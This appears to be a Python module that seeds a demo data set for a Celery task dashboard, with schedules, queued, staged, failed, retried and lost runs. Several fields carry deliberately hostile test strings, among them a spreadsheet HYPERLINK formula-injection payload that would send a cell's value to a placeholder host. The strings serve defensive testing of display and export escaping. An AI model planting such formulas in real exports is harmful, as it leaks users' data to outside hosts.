"""The parts of the demo data set, in the order the demo sends them (docs/demo.md lists them all)."""

from __future__ import annotations

from datetime import timedelta

from celery import chain, chord, group

from ..core.bounds import LATEST, MAX_DELAY, MAX_DELAY_SECONDS
from ..core.staging import StagingItem
from ..timeutil import utcnow
from .payloads import (
    ATTRIBUTE_BREAKERS,
    CJK,
    DEEP_FOREIGN_ARGS,
    DEEPEST_ACCEPTED_ARGS,
    DEEPEST_ACCEPTED_KWARGS,
    EMOJI,
    HOSTILE,
    HOSTILE_KEYS,
    HOSTILE_MESSAGE,
    HOSTILE_NAME,
    RTL,
    SCRIPT,
    TOO_DEEP_RESULT,
    Size,
    near_limit_text,
)
from .system import ANY_STATE, wait_for_history
from .work import STAGED_BY, Work

BACKFILL = "backfill"  # tasks.backfill_day's own queue: configured, consumed by no worker of `make run`
REPORTS = "reports"
PENDING = frozenset({"PENDING"})
SUCCESS = frozenset({"SUCCESS"})
FAILURE = frozenset({"FAILURE"})
REVOKED = frozenset({"REVOKED"})
DISCARDED = frozenset({"DISCARDED"})
RECEIVED = frozenset({"RECEIVED"})


def schedules(work: Work, size: Size, suffix: str) -> None:
    """Once, interval and cron schedules, enabled and disabled; two triggered now (origin schedule)."""
    soon = (utcnow() + timedelta(days=2)).replace(microsecond=0, tzinfo=None)
    later = (utcnow() + timedelta(days=30)).replace(microsecond=0, tzinfo=None)
    nightly = work.schedule(
        {
            "name": f"Nightly report {suffix}",
            "task": "tasks.send_daily_report",
            "kind": "cron",
            "cron": "0 3 * * *",
            "timezone": "Europe/Paris",
            "kwargs": {"recipient": "ops@example.com"},
            "queue": REPORTS,
            "priority": 6,
            "expires_seconds": 3600,
            "description": "The daily report, before the office opens in Paris.",
            "enabled": True,
        }
    )
    hostile = work.schedule(
        {
            "name": f"{HOSTILE_NAME} {suffix}",
            "task": "tasks.cleanup_expired_data",
            "kind": "interval",
            "interval_every": 2,
            "interval_unit": "minutes",
            "kwargs": {"days": 7},
            "description": f"{SCRIPT}\n{ATTRIBUTE_BREAKERS}\n{RTL}\n{EMOJI} {CJK}",
            "enabled": True,
        }
    )
    work.schedule(
        {
            "name": f"Quarter close {suffix}",
            "task": "tasks.send_daily_report",
            "kind": "once",
            "run_at": soon.isoformat(),
            "timezone": "America/New_York",
            "kwargs": {"recipient": "finance@example.com", "day": soon.date().isoformat()},
            "enabled": True,
        }
    )
    work.schedule(
        {
            "name": f"One-off migration {suffix}",
            "task": "tasks.cleanup_expired_data",
            "kind": "once",
            "run_at": later.isoformat(),
            "timezone": "UTC",
            "kwargs": {"days": 365},
            "enabled": False,
        }
    )
    work.schedule(
        {
            "name": f"Backfill sweep {suffix}",
            "task": "tasks.backfill_day",
            "kind": "interval",
            "interval_every": 6,
            "interval_unit": "hours",
            "kwargs": {"day": "yesterday", "source": "orders"},
            "queue": BACKFILL,
            "priority": 9,
            "enabled": False,
        }
    )
    work.schedule(
        {
            "name": f"Weekday digest \U0001f4ec {CJK} {suffix}",
            "task": "tasks.send_daily_report",
            "kind": "cron",
            "cron": "30 8 * * 1-5",
            "timezone": "Asia/Tokyo",
            "kwargs": {"recipient": "\u30c1\u30fc\u30e0@example.jp"},
            "queue": REPORTS,
            "enabled": False,
        }
    )
    work.schedule(
        {
            "name": f"Last day datetime holds {suffix}",
            "task": "tasks.cleanup_expired_data",
            "kind": "once",
            "run_at": "9999-12-30T00:00:00",  # in UTC+14: as late as bounds.LATEST allows
            "timezone": "Pacific/Kiritimati",
            "enabled": True,
        }
    )
    work.schedule(
        {
            "name": f"Once a decade {suffix}",
            "task": "tasks.cleanup_expired_data",
            "kind": "interval",
            "interval_every": MAX_DELAY.days,  # the longest interval
            "interval_unit": "days",
            "priority": 0,
            "enabled": True,
        }
    )
    work.schedule(
        {
            "name": f"In the daylight-saving gap {suffix}",
            "task": "tasks.send_daily_report",
            "kind": "cron",
            "cron": "30 2 * * *",  # 02:30 does not exist on the spring-forward day in New York
            "timezone": "America/New_York",
            "queue": REPORTS,
            "priority": 9,
            "enabled": True,
        }
    )
    work.schedule(
        {
            "name": f"Leap day {suffix}",
            "task": "tasks.cleanup_expired_data",
            "kind": "cron",
            "cron": "0 0 29 2 *",
            "timezone": "Australia/Lord_Howe",  # a half-hour daylight-saving shift
            "enabled": False,
        }
    )
    work.schedule(
        {
            # What a spreadsheet would run as a formula if the CSV export passed it through.
            "name": f'=HYPERLINK("https://example.com/?leak="&A1,"open") {suffix}',
            "task": "tasks.add",
            "kind": "interval",
            "interval_every": 1,
            "interval_unit": "days",
            "args": [1, 2],
            "enabled": False,
        }
    )
    for number in range(size.schedules):
        work.schedule(
            {
                "name": f"Archive shard {number:03d} {suffix}",
                "task": "tasks.cleanup_expired_data",
                "kind": "interval",
                "interval_every": 15 + number,
                "interval_unit": "minutes",
                "kwargs": {"days": 30 + number},
                "enabled": False,
            }
        )
    work.trigger(nightly, "nightly report, triggered now")
    work.trigger(hostile, "hostile schedule, triggered now")


def waiting_messages(work: Work, size: Size, hold: float, expect: frozenset[str]) -> None:
    """Messages no worker of `make run` takes: the backfill queue, at every priority."""
    today = utcnow().date()
    for number in range(size.backfill):
        day = (today - timedelta(days=number + 1)).isoformat()
        work.operator(
            "tasks.backfill_day",
            "waiting backfill",
            kwargs={"day": day, "source": ("orders", "invoices", "refunds")[number % 3]},
            queue=BACKFILL,
            priority=(0, 3, 6, 9, 5, 1, 8)[number % 7],
            expect=expect,
        )
    work.operator(
        "tasks.backfill_day",
        "waiting backfill with a countdown",
        kwargs={"day": today.isoformat()},
        queue=BACKFILL,
        countdown=hold,
        expect=expect,
    )
    work.operator(
        "tasks.backfill_day",
        "waiting ten years (the longest countdown)",
        kwargs={"day": "ten years from now"},
        queue=BACKFILL,
        countdown=MAX_DELAY_SECONDS,
        expires=LATEST.isoformat(),
        priority=0,
        expect=expect,
    )
    work.operator(
        "tasks.backfill_day",
        "waiting for the last day datetime holds",
        kwargs={"day": LATEST.date().isoformat()},
        queue=BACKFILL,
        eta=LATEST.isoformat(),
        priority=9,
        expect=expect,
    )
    work.other(
        "tasks.backfill_day",
        "waiting backfill with hostile arguments",
        args=[ATTRIBUTE_BREAKERS + HOSTILE["markup"]],
        kwargs={"source": HOSTILE_MESSAGE},
        queue=BACKFILL,
        priority=3,
        expect=expect,
    )
    work.other(
        "tasks.echo",
        "waiting message with deep arguments",
        args=DEEP_FOREIGN_ARGS,
        queue=BACKFILL,
        priority=9,
        expect=expect,
    )


def discarded_message(work: Work) -> None:
    """A backfill message an operator deleted from the queue page: its run ends DISCARDED. (Only
    while nobody consumes backfill: a worker could take the message first.)"""
    from ..core.broker import layout_for
    from ..core.runs import discard
    from ..queues import actions as queue_actions

    sent = work.operator(
        "tasks.backfill_day",
        "deleted from its queue",
        kwargs={"day": "1999-12-31", "source": "orders"},
        queue=BACKFILL,
        expect=DISCARDED,
    )
    removed = queue_actions.delete_message(work.broker, layout_for(work.celery), BACKFILL, sent.task_id)
    discard(
        work.session,
        [(removed.task_id, removed.task, BACKFILL)],
        f"deleted from queue {BACKFILL} by {STAGED_BY}",
    )


def staging_list(work: Work, size: Size, suffix: str) -> None:
    """Items left waiting behind a busy head, an auto submission, a moved message, poison items,
    and two items released now (origin staging)."""
    work.stage(
        "tasks.backfill_day",
        kwargs={"day": "2020-02-29", "source": "orders"},
        options={"queue": BACKFILL, "priority": 3},
        note="First in line: waits while the backfill queue is busy.",
    )
    for number in range(size.staged - 1):
        kind = number % 3
        if kind == 0:
            work.stage(
                "tasks.send_daily_report",
                kwargs={"recipient": f"team-{number}@example.com"},
                options={"queue": REPORTS, "priority": 9},
                note=HOSTILE_NAME,
            )
        elif kind == 1:
            work.stage("tasks.echo", kwargs={"value": HOSTILE}, options={"countdown": 30}, note=RTL)
        else:
            work.stage("tasks.add", args=[number, 1000], options={"expires": 3600}, note=EMOJI)
    work.stage(
        "tasks.backfill_day",
        kwargs={"day": LATEST.date().isoformat()},
        options={"queue": BACKFILL, "eta": LATEST.isoformat()},
        note="Due on the last day datetime holds.",
    )
    work.stage(
        "tasks.cleanup_expired_data",
        options={"countdown": MAX_DELAY_SECONDS - 1, "expires": MAX_DELAY_SECONDS},
        note="The longest countdown and expiry a run may have.",
    )
    work.operator(
        "tasks.echo", "staged from the run form", kwargs={"value": HOSTILE_KEYS}, submission="staged"
    )
    work.operator("tasks.add", "auto submission", args=[2, 3], submission="auto")
    moved = next((s for s in work.sent if s.label == "waiting backfill"), None)
    if moved is not None and work.same_server:
        work.move_from_queue(BACKFILL, moved.task_id)
    work.stage_unchecked(
        StagingItem(
            id=f"demo-poison-countdown-{suffix}",
            task="tasks.add",
            args=[1, 2],
            kwargs={},
            options={"countdown": 1e30},
            staged_by=STAGED_BY,
            staged_at=utcnow().isoformat(timespec="seconds"),
            note="Stored before validation existed: its countdown is 1e30 seconds.",
        )
    )
    retired = f"demo-poison-retired-{suffix}"
    work.stage_unchecked(
        StagingItem(
            id=retired,
            task="tasks.retired_report",
            args=[],
            kwargs={"format": SCRIPT},
            staged_by=STAGED_BY,
            staged_at=utcnow().isoformat(timespec="seconds"),
            note="Its task is no longer registered.",
        )
    )
    work.hold(retired)
    for pair in ([10, 20], [30, 40]):
        work.release(work.stage("tasks.add", args=pair, note="released at once"), "released from staging")


def finished_work(work: Work, size: Size) -> None:
    """Work that ends at once: ordinary runs at every priority, hostile, huge and deep values,
    failures with hostile messages, automatic retries, an expired message, and workflows."""
    ordinary = (
        ("tasks.add", lambda n: {"args": [n, n * 2]}),
        ("tasks.send_daily_report", lambda n: {"kwargs": {"recipient": f"ops+{n}@example.com"}}),
        ("tasks.cleanup_expired_data", lambda n: {"kwargs": {"days": n % 30 + 1}}),
    )
    for number in range(size.quick):
        task, arguments = ordinary[number % len(ordinary)]
        work.operator(task, "ordinary", priority=number % 10, **arguments(number))
    work.operator("tasks.echo", "hostile result", args=[HOSTILE])  # args: shown in attributes too
    work.operator("tasks.echo", "hostile keys", kwargs={"value": HOSTILE_KEYS})
    work.operator("tasks.echo", "deepest accepted args", args=DEEPEST_ACCEPTED_ARGS)
    work.operator("tasks.echo", "deepest accepted kwargs", kwargs=DEEPEST_ACCEPTED_KWARGS)
    work.operator(
        "tasks.echo", "arguments at the payload limit", kwargs={"value": near_limit_text(work.max_bytes)}
    )
    work.operator(
        "tasks.send_daily_report",
        "hostile report recipient",
        kwargs={"recipient": ATTRIBUTE_BREAKERS, "day": RTL},
        queue=REPORTS,
        priority=9,
    )
    work.other("tasks.echo", "huge arguments from other code", args=["x" * 150_000 + HOSTILE["markup"]])
    work.other("tasks.export_rows", "huge result", kwargs={"rows": 1500, "width": 120})
    work.other("tasks.build_tree", "result deeper than stored", kwargs={"depth": TOO_DEEP_RESULT})
    for number in range(size.failures):
        work.operator(
            "tasks.always_fails",
            "hostile failure",
            kwargs={"message": f"#{number} {HOSTILE_MESSAGE}"},
            expect=FAILURE,
        )
    work.other(
        "tasks.always_fails",
        "huge failure",
        kwargs={"message": HOSTILE_MESSAGE + " " + "y" * 100_000},
        expect=FAILURE,
    )
    work.operator("tasks.flaky", "retried twice, then succeeded", kwargs={"fail_times": 2}, expect=SUCCESS)
    work.operator("tasks.flaky", "retried until it failed", kwargs={"fail_times": 9}, expect=FAILURE)
    expired = utcnow() - timedelta(minutes=1)
    work.other("tasks.add", "expired before it ran", args=[0, 0], expires=expired, expect=REVOKED)
    workflows(work, size)


def workflows(work: Work, size: Size) -> None:
    """A chain of three, a group of five and a chord (origin other: Celery's canvas), and a chain
    broken by a failure in the middle (its last step is never sent)."""
    task = work.celery.signature
    for copy in range(size.workflows):
        tail = chain(
            task("tasks.add", args=(copy, 1)), task("tasks.add", args=(2,)), task("tasks.add", args=(3,))
        )
        work.note(tail.apply_async().id, "chain of three", "other")
        members = group(task("tasks.add", args=(copy, number)) for number in range(5)).apply_async()
        for member in members.results:
            work.note(member.id, "group of five", "other")
        callback = chord([task("tasks.add", args=(copy, n)) for n in range(4)], task("tasks.total"))()
        work.note(callback.id, "chord callback", "other")
    broken = chain(
        task("tasks.add", args=(1, 1)),
        task("tasks.always_fails", kwargs={"message": f"a chain broke here: {SCRIPT}"}, immutable=True),
        task("tasks.add", args=(5,)),
    ).apply_async()
    work.note(broken.parent.id, "chain broken in the middle", "other", FAILURE)


def retry_and_terminate(work: Work, hold: float, timeout: float) -> None:
    """Retry a recorded failure from the history; start a long run and terminate it."""
    failed = next(s for s in work.sent if s.label == "hostile failure")
    work.retry(failed.task_id, "retry of a hostile failure")
    doomed = work.operator(
        "tasks.long_task",
        "terminated while running",
        kwargs={"steps": int(hold), "step_seconds": 1.0},
        expect=REVOKED,
    )
    started = frozenset({"STARTED", "PROGRESS"})
    wait_for_history(work.session, {doomed.task_id: ("run to terminate", started)}, timeout, "a run to start")
    work.terminate(doomed.task_id)


def unfinished_work(work: Work, hold: float, timeout: float, waiting_expect: frozenset[str]) -> list[str]:
    """Runs left unfinished for ``hold`` seconds: a retry waiting on the backfill queue, runs held
    by a worker until their countdown or ETA (from staging, the run form and other code), one
    running silently, one reporting progress."""
    retrying = work.operator(
        "tasks.sync_partner_feed",
        "retrying later",
        kwargs={"partner": f"partner {HOSTILE['markup']}", "available": False, "retry_in": hold},
        expect=frozenset({"RETRY"}) if waiting_expect == PENDING else ANY_STATE,
    )
    first_attempt = [s for s in work.sent if s.task_id == retrying.task_id]
    wait_for_history(work.session, work.expected(first_attempt), timeout, "a run to retry")
    # A worker holds these until their countdown or ETA: RECEIVED, although the worker's
    # task-received is often timestamped before the sent time the history holds (taken after the
    # publish on another clock).
    held = RECEIVED
    item = work.stage("tasks.add", args=[7, 7], options={"countdown": hold}, note="released with a countdown")
    released = work.release(item, "released with a countdown", record=False, expect=held)
    later = work.operator("tasks.add", "countdown", args=[40, 2], countdown=hold, expect=held)
    eta = (utcnow() + timedelta(seconds=hold)).isoformat()
    report = work.operator(
        "tasks.send_daily_report", "ETA", kwargs={"recipient": "eta@example.com"}, eta=eta, expect=held
    )
    elsewhere = work.other("tasks.cleanup_expired_data", "countdown", countdown=hold, expect=held)
    silent = work.operator(
        "tasks.long_task",
        "running without progress",
        kwargs={"steps": 1, "step_seconds": hold},
        expect=frozenset({"STARTED"}),
    )
    progress = work.operator(
        "tasks.long_task",
        "reporting progress",
        kwargs={"steps": int(hold), "step_seconds": 1.0},
        expect=frozenset({"PROGRESS"}),
    )
    return [
        f"STARTED {silent.task_id}",
        f"PROGRESS {progress.task_id}",
        f"RETRY {retrying.task_id}",
        f"RECEIVED {released}, {later.task_id}, {report.task_id}, {elsewhere}",
    ]


def lost_message(work: Work, lost_after: float) -> None:
    """A backfill message the broker lost (as a flushed or failed-over Redis loses it), sent
    before the lost threshold: reconciliation finds it nowhere and marks its run LOST."""
    from sqlalchemy import update

    from ..core.broker import layout_for
    from ..core.runs import TaskRun
    from ..queues import actions as queue_actions

    sent = work.operator(
        "tasks.backfill_day",
        "lost by the broker",
        kwargs={"day": "1999-12-30", "source": "orders"},
        queue=BACKFILL,
        expect=frozenset({"LOST"}),
    )
    queue_actions.delete_message(work.broker, layout_for(work.celery), BACKFILL, sent.task_id)
    long_ago = utcnow() - timedelta(seconds=lost_after + 60)
    work.session.execute(update(TaskRun).where(TaskRun.task_id == sent.task_id).values(sent_at=long_ago))
    work.session.commit()
